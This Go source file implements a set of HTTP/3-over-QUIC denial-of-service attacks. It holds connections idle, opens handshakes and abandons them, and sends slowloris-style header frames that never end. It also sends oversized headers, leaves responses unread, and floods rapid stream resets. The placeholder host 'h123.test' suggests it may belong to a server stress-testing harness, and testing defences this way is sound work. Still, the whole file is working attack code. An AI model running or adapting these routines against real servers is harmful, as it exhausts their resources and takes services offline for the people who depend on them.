package main

import (
	"context"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/quicvarint"
)

// sockets is how many QUIC connections an assault holds at once: a socket and some goroutines each.
const sockets = 100

// hold3 is hold for what is done on a QUIC connection.
func (t *target) hold3(n int, terms *quic.Config, act func(*quic.Conn) error) {
	t.hold(n, func() error {
		conn, err := quic.DialAddr(t, t.endpoint, t.tls, terms)
		if err != nil {
			return err
		}
		leave := func() { _ = conn.CloseWithError(errorNone, "") }
		defer leave()
		// What is written waits for the server's window for as long as there is a connection.
		context.AfterFunc(t, leave)
		control, err := conn.OpenUniStream()
		if err != nil {
			return err
		}
		if _, err := control.Write([]byte{streamControl, frameSettings, 0}); err != nil {
			return err
		}
		return act(conn)
	})
}

// outlast returns when the connection or the time is over.
func (t *target) outlast(conn *quic.Conn) error {
	select {
	case <-conn.Context().Done():
	case <-t.Done():
	}
	return nil
}

// request3 is the frame of a request's header.
func request3() []byte {
	fields := section(field{":method", "GET"}, field{":scheme", "https"}, field{":authority", "h123.test"}, field{":path", large})
	return append(quicvarint.Append([]byte{frameHeaders}, uint64(len(fields))), fields...)
}

// endless3 is the beginning of a header that does not end.
func endless3() []byte {
	fields := section(field{":method", "GET"}, field{":scheme", "https"}, field{":authority", "h123.test"}, field{":path", large})
	return append(quicvarint.Append([]byte{frameHeaders}, endlessLength), fields...)
}

func idleQUIC(t *target) {
	t.hold3(sockets, nil, func(conn *quic.Conn) error { return t.outlast(conn) })
}

func halfQUIC(t *target) {
	t.hold(few, func() error {
		ctx, cancel := context.WithTimeout(t, time.Millisecond)
		defer cancel()
		_, err := quic.DialAddr(ctx, t.endpoint, t.tls, nil)
		return err
	})
}

func slow3(t *target) {
	t.hold3(few, nil, func(conn *quic.Conn) error {
		for range crowd {
			stream, err := conn.OpenStreamSync(t)
			if err != nil {
				return err
			}
			_, err = stream.Write(endless3())
			go func() {
				_ = forever(err, func() error {
					time.Sleep(second)
					_, err := stream.Write(section(filler)[2:])
					return err
				})
			}()
		}
		return t.outlast(conn)
	})
}

func huge3(t *target) {
	t.hold3(few, nil, func(conn *quic.Conn) error {
		stream, err := conn.OpenStreamSync(t)
		if err != nil {
			return err
		}
		_, err = stream.Write(endless3())
		return forever(err, func() error { _, err := stream.Write(section(filler)[2:]); return err })
	})
}

func unread3(t *target) {
	t.hold3(few, nil, func(conn *quic.Conn) error {
		for range crowd {
			stream, err := conn.OpenStreamSync(t)
			if err != nil {
				return err
			}
			if _, err := stream.Write(request3()); err != nil {
				return err
			}
			_ = stream.Close()
		}
		return t.outlast(conn)
	})
}

func resets3(t *target) {
	t.hold3(few, nil, func(conn *quic.Conn) error {
		return forever(nil, func() error {
			stream, err := conn.OpenStreamSync(t)
			if err != nil {
				return err
			}
			_, err = stream.Write(request3())
			stream.CancelRead(errorInternal)
			stream.CancelWrite(errorInternal)
			return err
		})
	})
}
